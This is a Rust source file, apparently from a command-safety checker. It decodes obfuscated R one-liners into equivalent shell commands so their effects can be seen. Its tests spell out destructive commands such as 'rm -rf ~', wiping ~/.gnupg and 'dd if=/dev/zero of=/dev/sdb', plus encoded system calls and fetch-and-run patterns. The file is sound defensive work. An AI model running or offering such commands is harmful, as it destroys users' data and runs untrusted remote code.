//! R one-liners (`Rscript -e CODE`, `R -e CODE`) read by their effects, after folding what the
//! code builds from constants: `paste`/`paste0`, `file.path`, `sprintf`, `chartr`,
//! `intToUtf8(c(…))`, `rawToChar(base64decode(…))`, `as.raw(c(…))`, home-directory
//! constructors (`path.expand`, `normalizePath`, `Sys.getenv("HOME")`) and variables assigned
//! once (`p <- "/opt/app"`). Then:
//! - `system`/`system2`/`shell` run their folded command;
//! - `unlink`/`file.remove`/`fs::dir_delete` become `rm` of their folded paths, except paths
//!   under a temporary directory the code made (`tempfile()`, `tempdir()`);
//! - code received from the network and run — `source(URL)`, `eval(parse(text =
//!   readLines(url(URL))))`, a `download.file` destination later sourced or parsed — becomes
//!   `curl -s URL | sh` (receive and run); decoded code given to `eval(parse(text = …))` is read
//!   again as R, a bounded number of times.

use std::collections::HashMap;

use super::langs::{calls, join, literal, quote, quote_all, split_top};

/// Nesting of `eval(parse(text = DECODED))` read again.
const MAX_EVAL_DEPTH: usize = 3;
/// Nesting of calls folded inside one argument.
const MAX_FOLD_DEPTH: usize = 24;
/// Largest folded string.
const MAX_TEXT: usize = 64 * 1024;

/// A folded R value.
#[derive(Debug, Clone, PartialEq)]
enum Val {
    Str(String),
    Nums(Vec<i64>),
    /// A temporary path the code made (`tempfile()`, `tempdir()`, paths under them).
    Temp,
    /// Text read from this URL.
    Remote(String),
}

struct Ctx<'a> {
    vars: &'a HashMap<String, Option<Val>>,
    /// `download.file` destinations and their URLs.
    downloads: &'a [(String, String)],
}

/// R code → shell commands with the same effects.
pub(crate) fn r_commands(code: &str) -> Vec<String> {
    r_at(code, 0)
}

fn r_at(code: &str, depth: usize) -> Vec<String> {
    let all = calls(code);
    let mut vars: HashMap<String, Option<Val>> = HashMap::new();
    let mut downloads: Vec<(String, String)> = Vec::new();
    // assignments in order; a name assigned twice is no longer known
    for stmt in statements(code) {
        if let Some((name, rhs)) = assignment(stmt) {
            let v = eval(
                rhs,
                &Ctx {
                    vars: &vars,
                    downloads: &downloads,
                },
                0,
            );
            let known = !vars.contains_key(name);
            vars.insert(name.to_string(), if known { v } else { None });
        }
    }
    for (name, args) in &all {
        if base(name) == "download.file" {
            let ctx = Ctx {
                vars: &vars,
                downloads: &downloads,
            };
            let url = arg(args, 0, "url").and_then(|a| str_of(a, &ctx));
            let dest = arg(args, 1, "destfile").and_then(|a| str_of(a, &ctx));
            if let (Some(u), Some(d)) = (url, dest) {
                downloads.push((d, u));
            }
        }
    }
    let ctx = Ctx {
        vars: &vars,
        downloads: &downloads,
    };
    let mut out = Vec::new();
    for (name, args) in &all {
        match base(name) {
            "system" | "shell" | "system.call" => {
                if let Some(a) = arg(args, 0, "command") {
                    run(eval(a, &ctx, 0), &ctx, &mut out);
                }
            }
            "system2" => {
                let Some(Val::Str(prog)) = arg(args, 0, "command").and_then(|a| eval(a, &ctx, 0))
                else {
                    continue;
                };
                let rest: Vec<String> = match arg(args, 1, "args") {
                    Some(a) => match a
                        .trim()
                        .strip_prefix("c(")
                        .and_then(|x| x.strip_suffix(')'))
                    {
                        Some(list) => split_top(list)
                            .iter()
                            .filter_map(|x| str_of(x, &ctx))
                            .collect(),
                        None => str_of(a, &ctx).into_iter().collect(),
                    },
                    None => Vec::new(),
                };
                out.push(join(&prog, &rest));
            }
            "unlink" | "file.remove" | "file_delete" | "dir_delete" => {
                let recursive = base(name) == "dir_delete"
                    || args.iter().any(|a| {
                        named(a).is_some_and(|(k, v)| {
                            k == "recursive" && matches!(v.trim(), "TRUE" | "T")
                        })
                    });
                let mut paths = Vec::new();
                for a in args.iter().filter(|a| named(a).is_none()) {
                    match eval(a, &ctx, 0) {
                        Some(Val::Str(p)) => paths.push(p),
                        Some(Val::Temp) => {}
                        _ => paths.push("$ARG".to_string()),
                    }
                }
                if !paths.is_empty() {
                    let flag = if recursive { "-rf" } else { "-f" };
                    out.push(format!("rm {flag} -- {}", quote_all(&paths)));
                }
            }
            "source" | "sys.source" => {
                if let Some(a) = arg(args, 0, "file") {
                    run_code(eval(a, &ctx, 0), &ctx, depth, true, &mut out);
                }
            }
            "eval" | "evalq" => {
                if let Some(a) = arg(args, 0, "expr") {
                    run_code(eval(a, &ctx, 0), &ctx, depth, false, &mut out);
                }
            }
            _ => {}
        }
    }
    out
}

/// A command value run by `system`.
fn run(v: Option<Val>, ctx: &Ctx<'_>, out: &mut Vec<String>) {
    match v {
        Some(Val::Str(cmd)) => {
            // a downloaded file run by name (`system("sh /tmp/x.sh")`)
            if let Some((_, url)) = ctx.downloads.iter().find(|(d, _)| cmd.contains(d.as_str())) {
                out.push(format!("curl -s {} | sh", quote(url)));
            }
            out.push(cmd);
        }
        Some(Val::Remote(url)) => out.push(format!("curl -s {} | sh", quote(&url))),
        _ => {}
    }
}

/// Code run by `source`/`eval`: from the network (receive and run), a downloaded file, or
/// decoded text read again as R.
fn run_code(v: Option<Val>, ctx: &Ctx<'_>, depth: usize, file: bool, out: &mut Vec<String>) {
    match v {
        Some(Val::Remote(url)) => out.push(format!("curl -s {} | sh", quote(&url))),
        Some(Val::Str(s)) if file || s.starts_with("http://") || s.starts_with("https://") => {
            if s.starts_with("http://") || s.starts_with("https://") {
                out.push(format!("curl -s {} | sh", quote(&s)));
            } else if let Some((_, url)) = ctx.downloads.iter().find(|(d, _)| *d == s) {
                out.push(format!("curl -s {} | sh", quote(url)));
            }
        }
        Some(Val::Str(code)) if depth < MAX_EVAL_DEPTH => out.extend(r_at(&code, depth + 1)),
        _ => {}
    }
}

/// The function name without its package (`base64enc::base64decode` → `base64decode`).
fn base(name: &str) -> &str {
    name.rsplit("::").next().unwrap_or(name)
}

/// `name = value` at the top of an argument.
fn named(a: &str) -> Option<(&str, &str)> {
    let (k, v) = a.split_once('=')?;
    let k = k.trim();
    (!v.starts_with('=')
        && !k.is_empty()
        && k.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '_'))
    .then_some((k, v.trim()))
}

/// The positional argument `i`, or the named argument `name`.
fn arg<'a>(args: &'a [String], i: usize, name: &str) -> Option<&'a str> {
    args.iter()
        .find_map(|a| named(a).filter(|(k, _)| *k == name).map(|(_, v)| v))
        .or_else(|| {
            args.iter()
                .filter(|a| named(a).is_none())
                .nth(i)
                .map(String::as_str)
        })
}

/// The named argument `name` only.
fn named_arg<'a>(args: &'a [String], name: &str) -> Option<&'a str> {
    args.iter()
        .find_map(|a| named(a).filter(|(k, _)| *k == name).map(|(_, v)| v))
}

fn str_of(a: &str, ctx: &Ctx<'_>) -> Option<String> {
    match eval(a, ctx, 0)? {
        Val::Str(s) => Some(s),
        _ => None,
    }
}

/// Top-level statements (split at `;`, newlines and braces outside strings and brackets).
fn statements(code: &str) -> Vec<&str> {
    let b = code.as_bytes();
    let mut out = Vec::new();
    let mut depth = 0i32;
    let mut start = 0;
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'"' | b'\'' => {
                i = super::langs::skip_string(b, i);
                continue;
            }
            b'(' | b'[' => depth += 1,
            b')' | b']' => depth -= 1,
            b';' | b'\n' | b'{' | b'}' if depth <= 0 => {
                out.push(&code[start..i]);
                start = i + 1;
            }
            _ => {}
        }
        i += 1;
    }
    out.push(&code[start..]);
    out
}

/// `name <- value`, `name = value`, `name <<- value`.
fn assignment(stmt: &str) -> Option<(&str, &str)> {
    let s = stmt.trim();
    let end = s
        .find(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == '_'))
        .unwrap_or(s.len());
    let (name, rest) = s.split_at(end);
    if name.is_empty() || name.starts_with(|c: char| c.is_ascii_digit()) {
        return None;
    }
    let rest = rest.trim_start();
    let rhs = rest
        .strip_prefix("<<-")
        .or_else(|| rest.strip_prefix("<-"))
        .or_else(|| rest.strip_prefix('=').filter(|r| !r.starts_with('=')))?;
    Some((name, rhs.trim()))
}

/// Fold an R expression.
fn eval(expr: &str, ctx: &Ctx<'_>, depth: usize) -> Option<Val> {
    if depth > MAX_FOLD_DEPTH {
        return None;
    }
    let e = expr.trim();
    if let Some(s) = literal(e) {
        return Some(Val::Str(unescape(s)));
    }
    if let Ok(n) = e.trim_end_matches('L').parse::<f64>() {
        return (n.fract() == 0.0 && n.abs() < 1e9).then_some(Val::Nums(vec![n as i64]));
    }
    if e.chars()
        .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '_')
    {
        return ctx.vars.get(e).cloned().flatten();
    }
    let open = e.find('(')?;
    let inner = e.get(open + 1..)?.strip_suffix(')')?;
    let name = e[..open].trim();
    let args = split_top(inner);
    let sub = |i: usize, n: &str| arg(&args, i, n).and_then(|a| eval(a, ctx, depth + 1));
    let s = |i: usize, n: &str| match sub(i, n) {
        Some(Val::Str(s)) => Some(s),
        _ => None,
    };
    let positional: Vec<&String> = args.iter().filter(|a| named(a).is_none()).collect();
    let v = match base(name) {
        "paste0" | "paste" | "file.path" | "str_c" | "glue" => {
            let sep = match base(name) {
                "paste" => arg(&args, usize::MAX, "sep")
                    .and_then(literal)
                    .unwrap_or(" ")
                    .to_string(),
                "file.path" => "/".to_string(),
                _ => String::new(),
            };
            let mut parts = Vec::new();
            for a in &positional {
                match eval(a, ctx, depth + 1)? {
                    Val::Str(p) => parts.push(p),
                    Val::Remote(u) => return Some(Val::Remote(u)),
                    Val::Temp => return Some(Val::Temp),
                    Val::Nums(n) => parts.push(n.iter().map(i64::to_string).collect()),
                }
            }
            Val::Str(parts.join(&sep))
        }
        "path.expand" | "normalizePath" | "path_expand" | "path_abs" | "as.character"
        | "trimws" | "enc2native" | "enc2utf8" | "str2lang" | "str2expression" | "c"
            if positional.len() == 1 =>
        {
            sub(0, "x")?
        }
        "Sys.getenv" => match s(0, "x")?.as_str() {
            "HOME" | "R_USER" | "USERPROFILE" => Val::Str("~".into()),
            "TMPDIR" | "TEMP" | "TMP" => Val::Str("/tmp".into()),
            _ => return None,
        },
        "tempfile" | "tempdir" => Val::Temp,
        "rawToChar" | "charToRaw" | "toString" => sub(0, "x")?,
        "base64decode" | "base64_dec" | "base64_decode" | "base64Decode" => {
            let a = arg(&args, 0, "what").or_else(|| arg(&args, 0, "input"))?;
            let Val::Str(raw) = eval(a, ctx, depth + 1)? else {
                return None;
            };
            let clean: String = raw.chars().filter(|c| !c.is_whitespace()).collect();
            use base64::Engine as _;
            let bytes = base64::engine::general_purpose::STANDARD_NO_PAD
                .decode(clean.trim_end_matches('=').as_bytes())
                .ok()?;
            Val::Str(String::from_utf8(bytes).ok()?)
        }
        "intToUtf8" | "as.raw" => {
            let nums = match sub(0, "x")? {
                Val::Nums(n) => n,
                _ => return None,
            };
            Val::Str(
                nums.iter()
                    .map(|n| u32::try_from(*n).ok().and_then(char::from_u32))
                    .collect::<Option<String>>()?,
            )
        }
        "c" => {
            let mut nums = Vec::new();
            for a in &positional {
                match eval(a, ctx, depth + 1)? {
                    Val::Nums(n) => nums.extend(n),
                    _ => return None,
                }
                if nums.len() > MAX_TEXT {
                    return None;
                }
            }
            Val::Nums(nums)
        }
        "chartr" => {
            let old: Vec<char> = s(0, "old")?.chars().collect();
            let new: Vec<char> = s(1, "new")?.chars().collect();
            let x = s(2, "x")?;
            Val::Str(
                x.chars()
                    .map(|c| match old.iter().position(|o| *o == c) {
                        Some(k) => new.get(k).copied().unwrap_or(c),
                        None => c,
                    })
                    .collect(),
            )
        }
        "toupper" => Val::Str(s(0, "x")?.to_uppercase()),
        "tolower" => Val::Str(s(0, "x")?.to_lowercase()),
        "sprintf" => {
            let fmt = s(0, "fmt")?;
            let mut vals = Vec::new();
            for a in positional.iter().skip(1) {
                match eval(a, ctx, depth + 1)? {
                    Val::Str(v) => vals.push(v),
                    Val::Nums(n) => vals.push(n.iter().map(i64::to_string).collect()),
                    _ => return None,
                }
            }
            let mut it = vals.into_iter();
            let mut out = String::new();
            let mut chars = fmt.chars();
            while let Some(c) = chars.next() {
                if c != '%' {
                    out.push(c);
                    continue;
                }
                match chars.next()? {
                    '%' => out.push('%'),
                    's' | 'd' | 'i' => out.push_str(&it.next()?),
                    _ => return None,
                }
            }
            Val::Str(out)
        }
        "gsub" | "sub" => {
            let fixed = args
                .iter()
                .any(|a| named(a).is_some_and(|(k, v)| k == "fixed" && matches!(v, "TRUE" | "T")));
            let pat = s(0, "pattern")?;
            let regex_free =
                !pat.contains(['.', '*', '+', '?', '[', '(', '|', '^', '$', '\\', '{']);
            if !(fixed || regex_free) || pat.is_empty() {
                return None;
            }
            let rep = s(1, "replacement")?;
            let x = s(2, "x")?;
            Val::Str(if base(name) == "gsub" {
                x.replace(&pat, &rep)
            } else {
                x.replacen(&pat, &rep, 1)
            })
        }
        // network reads: the text of a URL
        "url" | "GET" | "getURL" | "curl_fetch_memory" | "readLines" | "readline" | "scan"
        | "content" | "rawToChar.content" | "fromJSON" | "read_file" | "getURLContent" => {
            let a = ["con", "url", "x", "description"]
                .iter()
                .find_map(|n| named_arg(&args, n))
                .or_else(|| positional.first().map(|p| p.as_str()))?;
            match eval(a, ctx, depth + 1)? {
                Val::Remote(u) => Val::Remote(u),
                Val::Str(u) if u.starts_with("http://") || u.starts_with("https://") => {
                    Val::Remote(u)
                }
                // a downloaded file read back
                Val::Str(p) => match ctx.downloads.iter().find(|(d, _)| *d == p) {
                    Some((_, u)) => Val::Remote(u.clone()),
                    None => return None,
                },
                _ => return None,
            }
        }
        // `parse(text = X)` is X; `parse(file = F)` / `parse(F)` is the file's code
        "parse" => match arg(&args, usize::MAX, "text") {
            Some(t) => eval(t, ctx, depth + 1)?,
            None => match sub(0, "file")? {
                Val::Str(p) if p.starts_with("http://") || p.starts_with("https://") => {
                    Val::Remote(p)
                }
                Val::Str(p) => match ctx.downloads.iter().find(|(d, _)| *d == p) {
                    Some((_, u)) => Val::Remote(u.clone()),
                    None => return None,
                },
                v => v,
            },
        },
        _ => return None,
    };
    match &v {
        Val::Str(s) if s.len() > MAX_TEXT => None,
        _ => Some(v),
    }
}

/// R string escapes that matter here.
fn unescape(s: &str) -> String {
    s.replace("\\n", "\n")
        .replace("\\t", "\t")
        .replace("\\\"", "\"")
        .replace("\\'", "'")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn r_effects() {
        assert_eq!(r_commands("system(\"rm -rf /home/a\")"), ["rm -rf /home/a"]);
        assert_eq!(
            r_commands("unlink(\"/srv/shiny\", recursive=TRUE)"),
            ["rm -rf -- /srv/shiny"]
        );
        assert_eq!(
            r_commands("unlink(\"~\", recursive = TRUE, force = TRUE)"),
            ["rm -rf -- ~"]
        );
        assert_eq!(
            r_commands("file.remove(\"/etc/hosts\")"),
            ["rm -f -- /etc/hosts"]
        );
        assert_eq!(
            r_commands("system2(\"dd\", c(\"if=/dev/zero\", \"of=/dev/sdb\"))"),
            ["dd if=/dev/zero of=/dev/sdb"]
        );
        assert_eq!(
            r_commands("source(\"http://x/y.R\")"),
            ["curl -s http://x/y.R | sh"]
        );
        assert!(r_commands("print(summary(read.csv(\"data.csv\")))").is_empty());
        assert_eq!(
            r_commands("unlink(\"tmp_plots\", recursive=TRUE)"),
            ["rm -rf -- tmp_plots"]
        );
    }

    #[test]
    fn r_folds_paths_and_commands() {
        let cases = [
            (
                "unlink(Sys.getenv(\"HOME\"), recursive=TRUE)",
                "rm -rf -- ~",
            ),
            (
                "unlink(file.path(path.expand(\"~\"), \".gnupg\"), recursive = TRUE)",
                "rm -rf -- ~/.gnupg",
            ),
            (
                "unlink(normalizePath(\"~/.local\"), recursive=T, force=TRUE)",
                "rm -rf -- ~/.local",
            ),
            (
                "p <- \"/opt/app\"; unlink(p, recursive = TRUE)",
                "rm -rf -- /opt/app",
            ),
            (
                "d = paste0(\"/var/\", \"lib\")\nunlink(d, recursive = TRUE)",
                "rm -rf -- /var/lib",
            ),
            ("system(intToUtf8(c(108, 115, 32, 47)))", "ls /"),
            ("system(chartr(\"ab\", \"rm\", \"ab -f x\"))", "rm -f x"),
            ("system(sprintf(\"%s %s\", \"du\", \"-sh\"))", "du -sh"),
            (
                "system(paste(\"rm\", \"-rf\", Sys.getenv(\"HOME\")))",
                "rm -rf ~",
            ),
            ("system(rawToChar(as.raw(c(105, 100))))", "id"),
            (
                "system(gsub(\"X\", \"r\", \"Xm -Xf /tmp/a\", fixed = TRUE))",
                "rm -rf /tmp/a",
            ),
        ];
        for (code, want) in cases {
            assert_eq!(r_commands(code), [want], "{code}");
        }
        // a name assigned twice is not folded
        assert_eq!(
            r_commands("p <- \"/a\"; p <- \"/b\"; unlink(p)"),
            ["rm -f -- '$ARG'"]
        );
    }

    #[test]
    fn r_temp_dirs_are_not_deletions_of_other_paths() {
        for code in [
            "d <- tempfile(); dir.create(d); unlink(d, recursive = TRUE)",
            "unlink(tempdir(), recursive = TRUE)",
            "f <- file.path(tempdir(), \"plot.png\"); png(f); dev.off(); unlink(f)",
            "tmp = tempfile(fileext = \".csv\")\nwrite.csv(x, tmp)\nfile.remove(tmp)",
            "td <- tempdir(); unlink(paste0(td, \"/x\"), recursive=TRUE)",
        ] {
            assert!(
                r_commands(code).is_empty(),
                "{code}: {:?}",
                r_commands(code)
            );
        }
    }

    #[test]
    fn r_receive_and_run() {
        let rr = "curl -s https://x.example/a.R | sh";
        for code in [
            "eval(parse(text = readLines(url(\"https://x.example/a.R\"))))",
            "source(url(\"https://x.example/a.R\"))",
            "eval(parse(text = httr::content(httr::GET(\"https://x.example/a.R\"), \"text\")))",
            "download.file(\"https://x.example/a.R\", \"/tmp/a.R\"); source(\"/tmp/a.R\")",
            "f <- \"/tmp/z.R\"; download.file(\"https://x.example/a.R\", destfile = f); eval(parse(file = f))",
            "u <- \"https://x.example/a.R\"; eval(parse(text = paste(readLines(u), collapse = \"\\n\")))",
        ] {
            assert!(
                r_commands(code).iter().any(|c| c == rr),
                "{code}: {:?}",
                r_commands(code)
            );
        }
        // decoded code is read again
        assert_eq!(
            r_commands(
                "eval(parse(text = rawToChar(base64enc::base64decode(\"c3lzdGVtKCJscyIp\"))))"
            ),
            ["ls"]
        );
        // reading data from a URL runs nothing
        assert!(r_commands("d <- read.csv(url(\"https://x.example/d.csv\")); print(d)").is_empty());
        assert!(r_commands("x <- readLines(url(\"https://x.example/a.txt\")); cat(x)").is_empty());
    }

    #[test]
    fn r_folding_is_bounded() {
        let deep = format!("system({}\"ls\"{})", "paste0(".repeat(200), ")".repeat(200));
        assert!(r_commands(&deep).is_empty());
        let mut code = String::from("a0 <- \"xxxxxxxxxxxxxxxx\"\n");
        for i in 1..40 {
            code.push_str(&format!("a{i} <- paste0(a{}, a{})\n", i - 1, i - 1));
        }
        code.push_str("system(a39)");
        assert!(r_commands(&code).iter().all(|c| c.len() <= MAX_TEXT));
        let nested = format!(
            "{}\"system('ls')\"{}",
            "eval(parse(text = ".repeat(10),
            "))".repeat(10)
        );
        let _ = r_commands(&nested);
    }
}
